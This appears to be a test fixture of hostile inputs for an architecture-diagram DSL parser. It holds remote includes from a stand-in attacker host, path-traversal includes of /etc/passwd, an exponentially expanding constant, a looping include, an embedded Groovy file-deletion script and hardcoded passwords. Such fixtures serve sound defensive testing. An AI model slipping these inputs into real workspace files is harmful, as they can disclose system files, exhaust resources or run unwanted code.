workspace extends https://evil.example.com/base.dsl {
    !const A "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"
    !const B "${A}${A}${A}${A}${A}${A}${A}${A}${A}${A}${A}${A}${A}${A}${A}${A}"
    !const C "${B}${B}${B}${B}${B}${B}${B}${B}${B}${B}${B}${B}${B}${B}${B}${B}"
    !const D "${C}${C}${C}${C}${C}${C}${C}${C}${C}${C}${C}${C}${C}${C}${C}${C}"
    !const E "${D}${D}${D}${D}${D}${D}${D}${D}${D}${D}${D}${D}${D}${D}${D}${D}"
    model {
        !include ../../../../../../etc/passwd
        !include /etc/passwd
        !include https://evil.example.com/parts.dsl
        !include missing.dsl
        !include loop.dsl
        !script groovy {
            new File("/tmp/x").delete()
        }
        a = softwareSystem "A" {
            url "https://user:Tr0ub4dor@a.example.com"
            properties {
                password "Tr0ub4dor3"
            }
        }
        b = softwareSystem "B" "${E}"
        a -> b "Sends orders to password=Tr0ub4dor3" "REST"
    }
}
